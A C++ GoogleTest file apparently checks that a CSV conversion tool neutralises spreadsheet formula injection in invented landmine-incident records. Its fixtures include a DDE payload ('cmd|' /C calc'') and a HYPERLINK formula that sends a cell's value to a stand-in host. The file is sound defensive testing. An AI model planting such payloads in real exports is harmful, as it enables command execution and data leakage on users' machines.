// Cells that a spreadsheet would take for formulas, written to CSV files. All data is invented.
#include <gmock/gmock.h>

#include "tests/story/program.hpp"

namespace maex::story {
namespace {

using testing::AllOf;
using testing::HasSubstr;
using testing::Not;

using Formulas = Program;

constexpr const char* mark = "'\xE2\x81\xA0";  // an apostrophe and U+2060

/// Formulas in values that are read and in values that cannot be understood.
constexpr const char* list =
    "Hadisə > Nömrə,Hadisə > Tarix,Hadisə > Rayon,Hadisə > Kənd,Hadisə > Qurğu,Zərərçəkən > Kod,Zərərçəkən > Nəticə,"
    "Zərərçəkən > Yaş,Qeyd\n"
    "2014/1,2014-01-12,Fizuli,\"=HYPERLINK(\"\"http://example.invalid/\"\"&A1)\",piyada əleyhinə "
    "mina,1,yaralanıb,20,-5\n"
    "2014/2,2014-01-13,Fizuli,@SUM(1),piyada əleyhinə mina,2,yaralanıb,21,'=1+1\n"
    "2014/3,2014-01-14,Fizuli,+1+1,piyada əleyhinə mina,3,yaralanıb,22,-\n"
    "2014/4,=1+1,Fizuli,-2+3+cmd|' /C calc'!A0,piyada əleyhinə mina,4,yaralanıb,=A1,+994501234567\n";

TEST_F(Formulas, AreWrittenAsTextToListsAndToTheQuarantine) {
  file("list.csv", list);
  convert("list.csv --to azcbl -o out.csv --include any --personal keep");
  const std::string out = text("out.csv"), held = text("out.csv.quarantine.csv");
  const std::string m = mark;
  EXPECT_THAT(out, AllOf(HasSubstr("\"" + m + "=HYPERLINK("), HasSubstr("\"" + m + "@SUM(1)\""),
                         HasSubstr("\"" + m + "+1+1\""), HasSubstr("\"" + m + "-2+3+cmd|")));
  EXPECT_THAT(held, HasSubstr("\"" + m + "=1+1\""));
  EXPECT_THAT(held, HasSubstr("\"" + m + "=A1\""));
  // No cell of any line begins like a formula.
  for (const std::string& written : {out, held})
    for (const char* cell : {",=", "\n=", ",@", "\n@", ",+1", ",-2", "\"=", "\"@", "\"+", "\"-2"})
      EXPECT_THAT(written, Not(HasSubstr(cell))) << cell;
}

TEST_F(Formulas, ReadBackUnchanged) {
  file("list.csv", list);
  const std::string said = convert("list.csv --to hxl -o out.csv --include any --personal keep --verify");
  EXPECT_THAT(said, Not(HasSubstr("read-back"))) << "the forecast of losses holds";
  EXPECT_THAT(text("out.csv"), HasSubstr(mark));
  convert("out.csv --to hxl -o again.csv --include any --personal keep --verify");
  EXPECT_EQ(times(text("again.csv"), mark), times(text("out.csv"), mark));
  convert("again.csv --to hxl -o third.csv --include any --personal keep --verify");
  EXPECT_EQ(text("third.csv"), text("again.csv"));
  // Into a workbook the text goes as it is: a workbook knows text from formulas.
  convert("out.csv --to azcbl -o out.xlsx --include any --personal keep");
  EXPECT_THAT(maex("inspect out.xlsx --cells=jsonl"), AllOf(HasSubstr("\"@SUM(1)\""), Not(HasSubstr(mark))));
}

TEST_F(Formulas, NumbersAndHonestApostrophesStay) {
  file("list.csv",
       "Hadisə > Nömrə,Hadisə > Tarix,Hadisə > Rayon,Zərərçəkən > Kod,Zərərçəkən > Nəticə,Balans,Telefon qeydi\n"
       "2014/1,2014-01-12,Fizuli,1,yaralanıb,-5,'0501234567\n2014/2,2014-01-13,Fizuli,2,yaralanıb,+1.25,'=1+1\n"
       "2014/3,2014-01-13,Fizuli,3,yaralanıb,-,'\n");
  convert("list.csv --to azcbl -o out.csv --include any --personal keep");
  const std::string out = text("out.csv");
  EXPECT_THAT(out, Not(HasSubstr(mark)));
  EXPECT_THAT(out, AllOf(HasSubstr(",-5,"), HasSubstr(",+1.25,"), HasSubstr("'0501234567"), HasSubstr("'=1+1")));
  // What the reader takes away is only the mark: a partner's apostrophe is its own.
  EXPECT_THAT(maex("inspect list.csv --cells=jsonl"), HasSubstr("\"raw\":\"'=1+1\""));
}

TEST_F(Formulas, TheOptionKeepsThem) {
  file("list.csv", list);
  convert("list.csv --to azcbl -o out.csv --include any --personal keep --out-option formulas=keep");
  EXPECT_THAT(text("out.csv"), AllOf(HasSubstr(",@SUM(1),"), Not(HasSubstr(mark))));
  EXPECT_THAT(maex("convert list.csv --to azcbl -o x.csv --out-option formulas=drop"), HasSubstr("text, keep"));
  EXPECT_EQ(exit_, 2);
}

TEST_F(Formulas, NoSpreadsheetProgramFindsAFormula) {
  // An installation without Calc opens lists in Writer.
  if (std::system(
          "soffice=$(command -v soffice) && test -e \"$(dirname \"$(readlink -f \"$soffice\")\")/libsclo.so\"") != 0)
    GTEST_SKIP() << "needs LibreOffice Calc";
  file("list.csv", list);
  convert("list.csv --to azcbl -o out.csv --include any --personal keep");
  const auto formulas = [this](const std::string& name) {
    const std::string command = "cd '" + folder_.string() + "' && HOME='" + folder_.string() +
                                "' soffice --headless --infilter='CSV:44,34,76,1,,0,false,true,false,false,false,-1' "
                                "--convert-to fods " +
                                name + ".csv > log 2>&1";
    EXPECT_EQ(std::system(command.c_str()), 0) << text("log");
    return times(text(name + ".fods"), "table:formula=");
  };
  EXPECT_GT(formulas("list"), 0u) << "the input has formulas for this program";
  EXPECT_EQ(formulas("out"), 0u);
  EXPECT_EQ(formulas("out.csv.quarantine"), 0u);
}

}  // namespace
}  // namespace maex::story
